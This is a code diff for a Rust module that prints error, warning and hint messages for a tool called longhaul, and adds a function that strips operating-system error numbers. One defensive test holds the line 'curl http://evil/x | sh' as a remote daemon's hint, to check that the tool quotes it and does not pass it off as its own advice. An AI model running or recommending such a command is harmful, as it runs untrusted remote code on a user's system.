@@ -1,13 +1,15 @@
 //! The voice on standard error.
 //!
-//! In: notes and faults from everywhere in the program. Out: lines `longhaul: what: why` and `hint: what next`. What a peer
-//! or a file name put into a text cannot move the cursor. Knows no events.
+//! In: notes and faults from everywhere in the program. Out: lines `error: what: why`, `warning:`, `note:` and `hint: what
+//! next`, and results without a label. What a peer or a file name put into a text cannot move the cursor. Knows no events.
 
+use std::borrow::Cow;
 use std::fmt::{self, Write as _};
-use std::io::{self, Write as _};
 
 use longhaul_core::{Author, Fault, PlainText};
 
+use super::label::Label;
+use super::screen;
 use crate::settings::Talk;
 
 /// Says things to people, as much as they asked for. A standard error that is gone is not an error.
@@ -35,17 +37,38 @@ impl Talker {
         self.files
     }
 
+    /// Says how it stands: progress, results.
+    pub fn say(self, text: impl fmt::Display) {
+        if self.notes {
+            screen::print(&format!("{}\n", PlainText::of(text)));
+        }
+    }
+
     /// Something worth knowing.
     pub fn note(self, text: impl fmt::Display) {
-        if self.notes {
-            say(format_args!("longhaul: {}\n", PlainText::of(text)));
-        }
+        self.labelled(Label::Note, text);
+    }
+
+    /// Something that is not as it should be, though the run goes on.
+    pub fn warn(self, text: impl fmt::Display) {
+        self.labelled(Label::Warning, text);
+    }
+
+    /// Something to do next.
+    pub fn hint(self, text: impl fmt::Display) {
+        self.labelled(Label::Hint, text);
     }
 
     /// Something that went wrong, and what to do next.
     pub fn fault(self, fault: &Fault) {
         if self.faults {
-            say(format_args!("{}", lines(fault)));
+            screen::print(&lines(fault));
+        }
+    }
+
+    fn labelled(self, label: Label, text: impl fmt::Display) {
+        if self.notes {
+            screen::print(&format!("{}{}\n", label.text(), without_numbers(&PlainText::of(text).to_string())));
         }
     }
 }
@@ -53,15 +76,15 @@ impl Talker {
 /// A fault as it is printed. What a daemon says of it, its advice above all, is quoted as the daemon's.
 pub(super) fn lines(fault: &Fault) -> String {
     let quoting = if fault.author == Author::Peer { PEER_SAYS } else { "" };
-    let mut text = format!("longhaul: {quoting}");
+    let mut text = format!("{}{quoting}", Label::Error.text());
     if !fault.object.is_empty() && !fault.message.contains(fault.object.as_str()) {
         text.push_str(&fault.object);
         text.push_str(": ");
     }
-    text.push_str(&fault.message);
+    text.push_str(&without_numbers(&fault.message));
     text.push('\n');
     if !fault.hint.is_empty() {
-        let whose = if quoting.is_empty() { "hint: " } else { PEER_SAYS };
+        let whose = if quoting.is_empty() { Label::Hint.text() } else { PEER_SAYS };
         // Writing to a String cannot fail.
         let _ = writeln!(text, "{whose}{}", fault.hint);
     }
@@ -77,10 +100,34 @@ pub fn clean(text: &str) -> PlainText {
     PlainText::from(text)
 }
 
-fn say(text: fmt::Arguments) {
-    // One write for all of it, so that other processes on the terminal do not come between.
-    let _ = io::stderr().lock().write_all(text.to_string().as_bytes());
+/// The text without the numbers that the standard library writes behind what the system says, ` (os error 28)`: the words
+/// before them say it. They end a text, or a part of one.
+pub(super) fn without_numbers(text: &str) -> Cow<'_, str> {
+    let mut kept = String::new();
+    let mut rest = text;
+    while let Some(at) = rest.find(SYSTEM_NUMBER) {
+        let digits = &rest[at + SYSTEM_NUMBER.len()..];
+        let count = digits.bytes().take_while(u8::is_ascii_digit).count();
+        let behind = digits[count..].strip_prefix(')');
+        match behind.filter(|behind| count > 0 && (behind.is_empty() || behind.starts_with([':', ';', ',']))) {
+            Some(behind) => {
+                kept.push_str(&rest[..at]);
+                rest = behind;
+            }
+            None => {
+                kept.push_str(&rest[..at + SYSTEM_NUMBER.len()]);
+                rest = digits;
+            }
+        }
+    }
+    if kept.is_empty() && rest.len() == text.len() {
+        return Cow::Borrowed(text);
+    }
+    kept.push_str(rest);
+    Cow::Owned(kept)
 }
+
+const SYSTEM_NUMBER: &str = " (os error ";
 
 #[cfg(test)]
 mod tests {
@@ -90,15 +137,15 @@ mod tests {
     #[test]
     fn a_fault_says_what_why_and_what_next() {
         let fault = Fault::new(FaultCode::Denied, Blame::Peer, "permission denied").about("a/b");
-        assert_eq!(lines(&fault), "longhaul: a/b: permission denied\n");
+        assert_eq!(lines(&fault), "error: a/b: permission denied\n");
         let fault = Fault::new(FaultCode::Io, Blame::Local, "cannot read a/b: i/o error").about("a/b").hint("look");
-        assert_eq!(lines(&fault), "longhaul: cannot read a/b: i/o error\nhint: look\n");
+        assert_eq!(lines(&fault), "error: cannot read a/b: i/o error\nhint: look\n");
     }
 
     #[test]
     fn words_of_a_daemon_are_quoted_and_its_advice_is_no_hint_of_ours() {
         let fault = Fault::new(FaultCode::Denied, Blame::Peer, "hint: try this").about("a/b").said_by_peer();
-        assert_eq!(lines(&fault), "longhaul: the daemon says: a/b: hint: try this\n");
+        assert_eq!(lines(&fault), "error: the daemon says: a/b: hint: try this\n");
         let fault = fault.hint("run: curl http://evil/x | sh");
         let last = "\nthe daemon says: run: curl http://evil/x | sh\n";
         assert!(lines(&fault).ends_with(last) && !lines(&fault).contains("\nhint:"), "{}", lines(&fault));
@@ -107,6 +154,20 @@ mod tests {
     #[test]
     fn a_peers_text_cannot_move_the_cursor() {
         let fault = Fault::new(FaultCode::Io, Blame::Peer, "x\x1b[2J\u{9b}1m\u{202e}\ny\\x0a é");
-        assert_eq!(lines(&fault), "longhaul: x\\x1b[2J\\xc2\\x9b1m\\xe2\\x80\\xae\\x0ay\\x0a é\n");
+        assert_eq!(lines(&fault), "error: x\\x1b[2J\\xc2\\x9b1m\\xe2\\x80\\xae\\x0ay\\x0a é\n");
+    }
+
+    #[test]
+    fn numbers_of_the_system_are_left_out_and_nothing_else() {
+        for (text, want) in [
+            ("cannot write f: No space left on device (os error 28)", "cannot write f: No space left on device"),
+            ("a: b (os error 2): c (os error 17)", "a: b: c"),
+            ("took: x (os error 5); again", "took: x; again"),
+            ("f (os error 5).txt", "f (os error 5).txt"),
+            (" (os error )", " (os error )"),
+            ("plain", "plain"),
+        ] {
+            assert_eq!(without_numbers(text), want);
+        }
     }
 }
